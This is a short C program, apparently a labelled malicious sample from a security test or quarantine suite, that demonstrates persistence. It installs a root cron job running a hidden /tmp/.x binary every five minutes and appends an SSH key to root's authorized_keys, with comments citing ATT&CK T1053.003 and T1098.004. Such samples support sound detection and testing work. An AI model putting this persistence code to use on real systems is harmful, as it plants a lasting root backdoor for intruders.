/* Malicious: persistence. Installs a cron job in /etc/cron.d/x (T1053.003) and an SSH key in
 * /root/.ssh/authorized_keys (T1098.004). */
#include "common.h"
#include <fcntl.h>
#include <sys/stat.h>
static int put(const char *path, int flags, mode_t mode, const char *text) {
  int fd = open(path, O_WRONLY | O_CREAT | flags, mode);
  if (fd < 0) { WARN(path); return 1; }
  if (write(fd, text, strlen(text)) < 0) WARN("write");
  close(fd);
  return 0;
}
int main(void) {
  mkdir("/etc/cron.d", 0755);
  int bad = put("/etc/cron.d/x", O_TRUNC, 0644, "*/5 * * * * root /tmp/.x >/dev/null 2>&1\n");
  mkdir("/root/.ssh", 0700);
  bad |= put("/root/.ssh/authorized_keys", O_APPEND, 0600,
             "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForQuarantineSampleOnly0000000000000 sample@quarantine\n");
  SAY("cron-persist: installed /etc/cron.d/x and /root/.ssh/authorized_keys");
  return bad;
}
